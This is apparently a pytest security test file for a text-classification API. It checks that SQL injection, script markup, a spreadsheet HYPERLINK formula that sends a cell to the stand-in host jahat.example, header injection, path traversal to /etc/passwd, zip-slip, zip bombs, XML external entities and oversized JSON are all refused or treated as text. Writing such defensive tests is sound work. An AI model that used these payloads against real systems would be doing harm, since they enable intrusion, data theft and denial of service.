"""What is made to do harm is refused or taken for the plain text that it is: one test for each way in."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from pilah_api import cli
from pilah_api.access import Role
from pilah_api.services.backup import BackupError, Keys, restore
from pilah_api.store.units import Store
from tests.api.conftest import ClientFactory
from tests.api.stores import TEST, enter
from tests.data import exports, workbooks

SQL = "x'; DROP TABLE people; --"
MARKUP = '"><script>alert(1)</script><img src=x onerror=alert(1)>{{config}}'
FORMULA = '=HYPERLINK("http://jahat.example?x="&A1,"klik")'
LINES = "a\r\nSet-Cookie: pilah_session=jahat\r\n\r\n<html>"
PATIENCE_SECONDS = 300
"""Not a measure: what has not ended by then never would."""


def sign_in(client: TestClient, store: Store) -> dict[str, str]:
    """Sign an administrator in; return the headers that requests carry."""
    opened = enter(store, Role.ADMIN, login="kepala")
    cookies = client.app.state.cookies  # type: ignore[attr-defined]
    cookie = cookies.setting(opened.token, opened.session.expires_at, store.now()).split(";")[0]
    return {"cookie": cookie, "x-csrf-token": cookies.form_token(opened.session.id)}


def test_sql_is_text_wherever_it_is_put(make_client: ClientFactory, store: Store) -> None:
    client = make_client(store=store)
    asking = sign_in(client, store)
    cursor = base64.urlsafe_b64encode(SQL.encode()).decode()
    assert client.post("/v1/session", json={"login": SQL, "password": SQL}).status_code == 401
    made = client.post(
        "/v1/keys", json={"name": SQL, "scopes": ["judge"]}, headers={**asking, "idempotency-key": "'--"}
    )
    assert made.json()["key"]["name"] == SQL
    for path, query in (
        ("/v1/people", {"cursor": cursor}),
        ("/v1/keys", {"cursor": cursor}),
        ("/v1/audit", {"about": SQL}),
        (f"/v1/people/{SQL}", {}),
    ):
        assert client.get(path, params=query, headers=asking).status_code in (200, 404)
    assert client.get("/v1/keys", headers={"authorization": f"Bearer pilah_{SQL}"}).status_code == 401
    with store.reading() as unit:
        assert [one.login for one in unit.people.page(None, 9)] == ["kepala"]
        assert unit.audit.verify() == []
    assert {"people", "audit"} <= set(sa.inspect(store.engine).get_table_names())


def test_markup_is_shown_as_text_on_every_page_and_in_every_error(make_client: ClientFactory, store: Store) -> None:
    client = make_client(store=store)
    pages = [
        client.post("/", data={"text": MARKUP}),
        client.post("/", data={"text": f"{MARKUP} coblos nomor dua", "explain": "1"}),
        client.post("/masuk", data={"login": MARKUP, "password": "x", "ke": f"/{MARKUP}"}),
        client.get("/masuk", params={"ke": f"/{MARKUP}"}),
        client.get("/masuk/tautan", params={"kode": MARKUP}),
        client.get(f"/problems/{MARKUP}", headers={"accept": "text/html"}),
        client.get("/", params={"lang": MARKUP}),
    ]
    for page in pages:
        assert "text/html" in page.headers["content-type"]
        assert "<script>alert" not in page.text
        assert "<img src=x" not in page.text
        assert "script-src 'self'" in page.headers["content-security-policy"]
    answer = client.post("/v1/classify", json={"texts": [MARKUP], MARKUP: 1})
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"])
def test_a_formula_is_text_in_every_table_that_is_written(start: str, tmp_path: Path) -> None:
    cell = start + FORMULA[1:]
    source = tmp_path / "kiriman.csv"
    with source.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows(
            [["id", FORMULA, "text"], ["1", cell, f"{cell} apel pagi"], [cell, "x", "Apel pagi"]]
        )
    for suffix in (".csv", ".tsv"):
        assert cli.run(["score", str(source), "-o", str(tmp_path / f"hasil{suffix}"), "--text-column", "text"]) == 0
        with (tmp_path / f"hasil{suffix}").open(newline="", encoding="utf-8-sig") as file:
            rows = list(csv.reader(file, delimiter="," if suffix == ".csv" else "\t"))
        for value in (value for row in rows for value in row):
            assert not value.startswith(tuple("=+-@\t\r\n＝＋－＠")), value
    assert cli.run(["score", str(source), "-o", str(tmp_path / "hasil.xlsx"), "--text-column", "text"]) == 0
    book = load_workbook(tmp_path / "hasil.xlsx")
    kinds = {one.data_type for sheet in book for row in sheet.iter_rows() for one in row if one.value is not None}
    assert "f" not in kinds


def test_line_ends_never_begin_a_header_of_their_own(make_client: ClientFactory, store: Store) -> None:
    client = make_client(store=store)
    answers = [
        client.get("/masuk", params={"ke": f"/{LINES}"}),
        client.post("/masuk", data={"login": "a", "password": "b", "ke": f"/{LINES}"}),
        client.get("/tidak/ada\r\nSet-Cookie: a=b".replace("\r\n", "%0d%0a"), headers={"accept": "text/html"}),
        client.get("/v1/people", params={"cursor": LINES}),
        client.post("/v1/classify", json={"posts": [{"id": LINES, "text": "kopi"}]}),
        client.get("/", params={"lang": LINES}),
        client.get("/livez", headers={"x-request-id": "a b"}),
    ]
    for answer in answers:
        assert "jahat" not in str(answer.headers)
        assert "a=b" not in answer.headers.get("set-cookie", "")
        assert " " not in answer.headers["x-request-id"]
    asking = sign_in(client, store)
    moved = client.get("/masuk/oidc/kembali", params={"state": LINES}, headers=asking)
    assert moved.status_code == 404


def test_no_path_leads_out_of_a_folder(make_client: ClientFactory, tmp_path: Path) -> None:
    client = make_client()
    (tmp_path / "home" / "rahasia.txt").write_text("rahasia")
    for path in (
        "/static/../render.py",
        "/static/..%2frender.py",
        "/static/%2e%2e/%2e%2e/settings.py",
        "/static/....//render.py",
        "/static//etc/passwd",
        "/static/%2fetc%2fpasswd",
        "/static/..%5crender.py",
        "/static/pilah.css%00.html",
        "/problems/..%2f..%2fsettings",
    ):
        answer = client.get(path)
        assert answer.status_code in (400, 404), path
        assert "import" not in answer.text
        assert "root:" not in answer.text


@pytest.mark.parametrize(
    "name", ["../keluar.db", "/etc/pilah", "evidence/../../keluar", "evidence/" + "g" * 64, "data.key"]
)
def test_an_archive_of_a_backup_writes_nowhere_else(tmp_path: Path, name: str) -> None:
    archive, content = tmp_path / "a.zip", b"jahat"
    facts = {"bytes": len(content), "sha256": "0" * 64}
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("manifest.json", json.dumps({"format": 1, "files": {"pilah.db": facts, name: facts}}))
        made.writestr("pilah.db", content)
        made.writestr(name, content)
    with pytest.raises(BackupError, match="files that no backup holds"):
        restore(tmp_path / "home", archive, Keys(None), replace=False, origin=TEST)
    assert sorted(path.name for path in tmp_path.rglob("*") if path.is_file()) == ["a.zip"]


def bomb(members: dict[str, int]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, mebibytes in members.items():
            with archive.open(name, "w") as member:
                for _ in range(mebibytes):
                    member.write(bytes(1 << 20))
    return out.getvalue()


def test_a_zip_bomb_is_not_unpacked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    plain, nested = tmp_path / "bom.zip", tmp_path / "sarang.zip"
    plain.write_bytes(bomb({"a.csv": 80}))
    nested.write_bytes(exports.zipped({"b.zip": bomb({"a.csv": 1}), "c.zip": b"PK\x03\x04"}))
    for path, words in ((plain, "zip bombs"), (nested, "archive within an archive")):
        assert cli.run(["score", str(path), "-o", str(tmp_path / "hasil.csv")]) == 3
        assert words in capsys.readouterr().err
    backup = tmp_path / "cadangan.zip"
    with zipfile.ZipFile(backup, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(
            "manifest.json", json.dumps({"format": 1, "files": {"pilah.db": {"bytes": 5, "sha256": "0" * 64}}})
        )
        made.writestr("pilah.db", bytes(80 << 20))
    with pytest.raises(BackupError, match="damaged"):
        restore(tmp_path / "home", backup, Keys(None), replace=False, origin=TEST)
    assert sum(path.stat().st_size for path in (tmp_path / "home").rglob("*")) < 1 << 20


def test_xml_that_unfolds_or_reaches_for_files_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "rahasia.txt").write_text("rahasia")
    entities = (
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{tmp_path}/rahasia.txt">]>',
        "<!-- " + "x" * 9000 + f' --><!DOCTYPE x [<!ENTITY a SYSTEM "file://{tmp_path}/rahasia.txt">]>',
    )
    for number, dtd in enumerate(entities):
        path = tmp_path / f"{number}.xlsx"
        rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>teks</t></is></c></row>'
        rows += '<row r="2"><c r="A2" t="inlineStr"><is><t>apel &a; pagi</t></is></c></row>'
        path.write_bytes(workbooks.raw_xlsx(rows, dtd))
        code = cli.run(["score", str(path), "-o", str(tmp_path / f"{number}.csv")])
        told = capsys.readouterr()
        written = tmp_path / f"{number}.csv"
        assert code in (1, 3)
        assert "rahasia" not in told.out
        assert not written.exists() or "rahasia" not in written.read_text(encoding="utf-8")


BOMBS = """
import sys
from pathlib import Path
from pilah_data.feeds import FeedOptions, open_feed
from pilah_data.feeds.rows import FeedError
from pilah_data.normalise import normalise
from pilah_data.privacy import mask
from pilah_model.batch.dates import day_of, written_of
pieces = ["a", "ha", "a!", "0", "0-", "0 ", "1.", "1/", "@", "@a", "a@", "a@b.", "http://", "www.a", "http://a.b/", "c o b l o s ",
    ". ", "+62", "08", "#", "#aB", "\\u200b", "c\\u200b", "\\U0001f44d\\U0001f3fd", "e\\u0301", "\\u0301", "\\u00c3\\u00a9", "\\u00f0",
    "4n", "p3k", "1iii", "IV", "-", "_", "\\n", "\\t ", "&amp;", "2\\ufe0f\\u20e3", "wk", "32010112", "(021) ", "ke-2 ", "RT 05 "]
folder = Path(sys.argv[1])
for piece in pieces:
    text = (piece * 100_000)[:100_000]
    normalise(text), mask(text), day_of(text), written_of(text)
    for name in ("a.csv", "a.txt", "a.json", "a.js"):
        starts = {"a.csv": "id;teks\\n1;", "a.txt": "31/12/2023 09.15 - A: ", "a.json": '[{"text": "'}
        (folder / name).write_text(starts.get(name, "window.YTD.tweets.part0 = [") + text * 3, encoding="utf-8")
        try:
            feed, opened = open_feed(folder / name, FeedOptions())
            with opened:
                list(feed.rows)
        except FeedError:
            pass
"""


def test_no_text_holds_up_a_pattern(root: Path, tmp_path: Path) -> None:
    path = os.pathsep.join(str(root / part) for part in ("data", "model"))
    subprocess.run(
        [sys.executable, "-c", BOMBS, tmp_path],
        env={**os.environ, "PYTHONPATH": path},
        check=True,
        timeout=PATIENCE_SECONDS,
    )


def test_json_that_nests_or_counts_beyond_reason_is_refused(client: TestClient) -> None:
    for body in (
        "[" * 100_000,
        '{"texts": [' + "1" * 100_000 + "]}",
        '{"a":' * 50_000 + "1" + "}" * 50_000,
        '{"texts": ["a"], "texts": 1e999}',
    ):
        answer = client.post("/v1/classify", content=body, headers={"content-type": "application/json"})
        assert answer.status_code in (400, 422)
